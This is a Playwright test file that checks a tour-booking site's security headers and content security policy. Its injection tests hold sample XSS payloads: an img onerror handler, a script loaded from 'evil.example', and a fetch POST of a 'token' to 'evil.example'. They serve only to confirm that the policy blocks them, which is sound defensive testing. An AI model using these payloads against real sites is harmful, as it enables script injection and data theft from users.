import type { Page } from '@playwright/test';
import { host } from '../support/service-host.ts';
import { expect, site, test } from '../support/test.ts';

const PATHS: [string, number][] = [
  ['/', 200],
  ['/en/group-tour/17', 200],
  ['/booking/17', 200],
  ['/account', 200],
  ['/auth/sign-in', 200],
  ['/no-such-page', 404],
  ['/group-tour/9999', 404],
  ['/sitemap.xml', 200],
  ['/robots.txt', 200],
  ['/og/tour/17.png', 200],
];

test('every kind of page has a content security policy and the other security headers', async ({ request }) => {
  for (const [path, status] of PATHS) {
    const response = await request.get(path, { maxRedirects: 0 });
    expect([path, response.status()]).toEqual([path, status]);
    const headers = response.headers();
    const policy = new Map(
      headers['content-security-policy']?.split('; ').map((line) => {
        const [name = '', ...values] = line.split(' ');
        return [name, values.join(' ')];
      }),
    );
    expect(Object.fromEntries(policy), path).toMatchObject({
      'default-src': "'self'",
      'object-src': "'none'",
      'worker-src': "'self'",
      'base-uri': "'none'",
      'frame-ancestors': "'none'",
      'require-trusted-types-for': "'script'",
    });
    // The one script inside the pages is a constant.
    expect(policy.get('script-src'), path).toMatch(/^'self' 'sha256-[\w+/=]{44}'$/);
    expect(policy.get('style-src'), path).toMatch(/^'self'( 'sha256-[\w+/=]{44}'){10,}$/);
    expect(headers, path).toMatchObject({
      'x-content-type-options': 'nosniff',
      'x-frame-options': 'DENY',
      'referrer-policy': 'strict-origin-when-cross-origin',
      'cross-origin-opener-policy': 'same-origin',
    });
    expect(headers['permissions-policy'], path).toContain('camera=()');
  }
});

test('data, images and missing files have a policy without scripts and frames', async ({ request }) => {
  const buildId = (await (await request.get('/')).text()).match(/"buildId":"([^"]+)"/)?.[1];
  const imagePath = (await (await request.get('/blog')).text()).match(/\/_next\/image\?[^" ]+/)?.[0];
  const files: [string | undefined, number][] = [
    [`/_next/data/${buildId}/id/blog.json`, 200],
    [imagePath?.replaceAll('&amp;', '&'), 200],
    ['/_next/image?url=nothing', 400],
    ['/_next/static/none.js', 404],
    ['/images/none.svg', 404],
    ['/fonts/none.woff2', 404],
  ];
  for (const [file = '', status] of files) {
    const response = await request.get(file);
    expect([file, response.status()]).toEqual([file, status]);
    expect(response.headers()['content-security-policy'], file).toMatch(
      /^default-src 'none'; frame-ancestors 'none'(; sandbox)?$/,
    );
    expect(response.headers(), file).toMatchObject({
      'x-content-type-options': 'nosniff',
      'cross-origin-resource-policy': 'same-origin',
    });
  }
});

test('the files of a page have nosniff, a policy without scripts and a same-origin resource policy', async ({
  request,
}) => {
  const html = await (await request.get('/')).text();
  const files = [...new Set(html.match(/\/_next\/static\/[\w./-]+\.(?:js|css|woff2)/g))];
  expect(files.length).toBeGreaterThan(5);
  for (const file of [...files, '/images/favicon.svg']) {
    expect((await request.get(file)).headers(), file).toMatchObject({
      'content-security-policy': "default-src 'none'; frame-ancestors 'none'",
      'x-content-type-options': 'nosniff',
      'cross-origin-resource-policy': 'same-origin',
    });
  }
});

test.describe('content injected into a page', () => {
  test.use({ expectsPolicyErrors: true });

  /** Runs the injection in the page; returns the violated directives, and whether injected code has run. */
  async function inject(page: Page, injection: () => void) {
    await page.evaluate(() => {
      window.violatedDirectives = [];
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
        window.violatedDirectives.push(effectiveDirective);
      });
    });
    // The browser may refuse an injection with an exception.
    await page.evaluate(injection).catch(() => undefined);
    await expect.poll(() => page.evaluate(() => window.violatedDirectives.length)).toBeGreaterThan(0);
    return page.evaluate(() => ({ directives: [...new Set(window.violatedDirectives)], hasRun: 'hasRun' in window }));
  }

  test('no string becomes HTML, no script, event handler or style is injected, and no data is sent elsewhere', async ({
    page,
  }) => {
    const heading = page.getByRole('heading', { level: 1 });
    const markup = () => {
      document.body.innerHTML = '<img src="/nothing" onerror="window.hasRun = true">';
    };
    const script = () => {
      document.head.append(Object.assign(document.createElement('script'), { src: 'https://evil.example/a.js' }));
    };
    const handler = () => {
      const image = document.createElement('img');
      image.setAttribute('onerror', 'window.hasRun = true');
      image.src = '/nothing';
      document.body.append(image);
    };
    const send = () => void fetch('https://evil.example/', { method: 'POST', body: 'token' }).catch(() => undefined);
    const attribute = () => document.querySelector('h1')?.setAttribute('style', 'color: rgb(1, 2, 3)');
    const style = () =>
      document.head.append(Object.assign(document.createElement('style'), { textContent: 'h1{color:rgb(1,2,3)}' }));
    await page.goto('/blog');
    for (const [injection, directive] of [
      [markup, 'require-trusted-types-for'],
      [script, 'require-trusted-types-for'],
      [handler, 'require-trusted-types-for'],
      [send, 'connect-src'],
      [attribute, 'style-src-attr'],
      [style, 'style-src-elem'],
    ] as const) {
      expect(await inject(page, injection), String(injection)).toEqual({ directives: [directive], hasRun: false });
      await expect(heading).toBeVisible();
      await expect(heading).not.toHaveCSS('color', 'rgb(1, 2, 3)');
    }
  });

  test('no other page may show this one in a frame', async ({ page }) => {
    // From a page without an address, Chromium would refuse every local address.
    await page.goto(`${host}/v1/modules/tour/17/itineraries`);
    const refused = page.waitForEvent('console', (message) => message.text().includes('frame-ancestors'));
    await page.setContent(`<iframe src="${site}/blog"></iframe>`);
    await refused;
    await expect(page.frameLocator('iframe').getByRole('heading', { level: 1 })).toHaveCount(0);
  });
});

declare global {
  interface Window {
    violatedDirectives: string[];
  }
}
